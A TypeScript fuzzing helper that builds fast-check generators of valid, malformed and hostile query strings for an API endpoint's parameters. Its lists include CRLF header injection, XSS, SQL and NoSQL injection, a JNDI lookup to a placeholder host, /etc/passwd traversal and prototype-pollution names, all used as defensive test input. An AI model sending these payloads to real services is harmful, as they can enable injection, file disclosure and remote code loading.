import fc from "fast-check";
import { isOrderList, type ParameterDoc } from "../../services/shared/contract/derive/parameters.ts";
import { badValues, goodValues, itemOf } from "../../services/shared/contract/testkit/test-values.ts";

/** In whatever is made up here, so that it is found again where it must not be: in logs and metrics. */
export const MARK = "zqmark";

/** What breaks parsers, queries, logs, headers and pages elsewhere. */
const HOSTILE: readonly string[] = [
  `${MARK}\r\nX-Injected: 1`,
  `${MARK}\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n`,
  `\u0000${MARK}`,
  `\u001b[31m${MARK}\u0007\u0008\n{"level":"info","msg":"forged"}`,
  `<script>alert("${MARK}")</script>`,
  `' OR '1'='1' -- ${MARK}`,
  `"; DROP TABLE pools; -- ${MARK}`,
  `{"$gt":""}`,
  `{"$where":"sleep(10000)"}`,
  `\${jndi:ldap://${MARK}.example/a}`,
  `../../../../etc/passwd`,
  `file:///etc/passwd`,
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "\ud800",
  "\udfff\ud800",
  "\u202e\u2028\u2029\ufeff",
  "🙂".repeat(40),
  "e\u0301".repeat(200),
  "x".repeat(3_000),
  "9".repeat(400),
  "1e309",
  "-1",
  "0",
  "00",
  "NaN",
  "null",
  "undefined",
  "[object Object]",
  "true",
  "٣",
  "１０",
  "0x7fffffffffffffff",
  "9007199254740993",
  "-0",
  " ",
  "\t",
  "*",
  "%",
  "%00",
  "%0d%0aX-Injected:%201",
  "a,b,,c",
  ",",
];

/** Names that a lax parser turns into something else than a name. */
const NAMES: readonly string[] = [
  "__proto__",
  "__proto__[polluted]",
  "__proto__.polluted",
  "constructor",
  "constructor[prototype][polluted]",
  "prototype",
  "toString",
  "hasOwnProperty",
  "limit[]",
  "limit[0]",
  "pool_address[$ne]",
  "order",
  "$where",
  "Limit",
  " limit",
  "limit\u0000",
  "",
  MARK,
  `${MARK}\r\nX-Injected`,
  "x".repeat(500),
];

const anyText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 10 }) },
);

const unpaired = /[\ud800-\udfff]/;
const encodeEach = (text: string) =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const encode = (text: string) => (unpaired.test(text) ? encodeEach(text) : encodeURIComponent(text));

/** Ways of writing a text into a query, good ones and bad ones. */
const encodings: readonly ((text: string) => string)[] = [
  encodeEach,
  (text) => encode(text).replaceAll("%20", "+"),
  (text) => encode(encode(text)),
  (text) => encode(text).toLowerCase(),
  // As it is, but for what would end the request line.
  (text) =>
    Buffer.from(text)
      .toString("latin1")
      .replace(/[\r\n]/g, "%0a"),
  // Bytes that are no UTF-8: overlong, half a character, a surrogate.
  (text) => `${encode(text)}%c0%af`,
  (text) => `${encode(text)}%e2%82`,
  (text) => `%ed%a0%80${encode(text)}`,
  (text) => `${encode(text)}%`,
  (text) => `${encode(text)}%u0041`,
];

const pairText = (name: string, value: string, write = encode) => `${write(name)}=${write(value)}`;

/** A value that the parameter's rule allows: of what is stored, where it is an address. */
function goodValue(doc: ParameterDoc, known: readonly string[]): fc.Arbitrary<string> {
  const { schema } = doc;
  if (isOrderList(doc)) return goodOrder(schema.items?.enum ?? []);
  if (schema.items !== undefined) {
    const one = goodValue(itemOf(doc), known);
    return fc.array(one, { minLength: 1, maxLength: 4 }).map((items) => items.join(","));
  }
  const pattern = schema.pattern === undefined ? undefined : new RegExp(schema.pattern);
  const fitting = pattern === undefined ? [] : known.filter((value) => pattern.test(value));
  const usual = fc.constantFrom(...goodValues(doc));
  const values =
    fitting.length === 0 ? usual : fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...fitting) }, usual);
  if (schema.type !== "integer" || schema.enum !== undefined) return values;
  const { minimum: min = 0, maximum: max = 2_000_000_000 } = schema;
  return fc.oneof(values, fc.integer({ min, max: Math.min(max, 2_000_000_000) }).map(String));
}

function goodOrder(columns: readonly (string | number)[]): fc.Arbitrary<string> {
  return fc
    .shuffledSubarray(columns.map(String), { maxLength: Math.min(4, columns.length) })
    .map((names) => names.join(","));
}

function badValue(doc: ParameterDoc): fc.Arbitrary<string> {
  const bad = badValues(doc);
  return bad.length === 0 ? anyText : fc.oneof(fc.constantFrom(...bad), anyText);
}

/** Queries of an endpoint by its parameters: within their rules, one step beside them, and anything at all. */
export function queriesOf(docs: readonly ParameterDoc[], known: readonly string[]): fc.Arbitrary<string> {
  const own = docs.filter(({ aliasOf }) => aliasOf === undefined);
  const needed = own.filter(({ name, required }) => required || docs.some(({ aliasOf }) => aliasOf === name));
  const options = own.filter((doc) => !needed.includes(doc));
  const pairOf = (doc: ParameterDoc, value: fc.Arbitrary<string>) =>
    value.map((text) => pairText(doc.name, text));
  const good = fc
    .tuple(
      fc.tuple(...needed.map((doc) => pairOf(doc, goodValue(doc, known)))),
      fc.shuffledSubarray(options, { maxLength: Math.min(4, options.length) }),
    )
    .chain(([first, chosen]) =>
      fc.tuple(...chosen.map((doc) => pairOf(doc, goodValue(doc, known)))).map((more) => [...first, ...more]),
    );
  const named =
    docs.length === 0
      ? fc.constantFrom(...NAMES)
      : fc.constantFrom(...docs.map(({ name }) => name), ...NAMES);
  const noise = fc
    .tuple(named, anyText, fc.constantFrom(encode, ...encodings))
    .map(([name, value, write]) => pairText(name, value, write));
  const wrong =
    docs.length === 0 ? noise : fc.constantFrom(...docs).chain((doc) => pairOf(doc, badValue(doc)));
  const written = (pairs: readonly string[]) => pairs.join("&");
  return fc.oneof(
    { weight: 8, arbitrary: good.map(written) },
    { weight: 2, arbitrary: fc.tuple(good, wrong).map(([pairs, one]) => written([...pairs, one])) },
    {
      weight: 3,
      arbitrary: fc
        .tuple(good, fc.array(noise, { minLength: 1, maxLength: 4 }))
        .chain(([pairs, more]) => fc.shuffledSubarray([...pairs, ...more], { minLength: 1 }))
        .map(written),
    },
    { weight: 1, arbitrary: good.map((pairs) => written([...pairs, ...pairs])) },
    { weight: 1, arbitrary: anyText.map((text) => encodings[4]?.(text) ?? "") },
  );
}

/** For headers: whatever one line can hold. */
export const lineText = anyText.map((text) =>
  Buffer.from(text)
    .toString("latin1")
    .replace(/[\r\n]/g, " "),
);
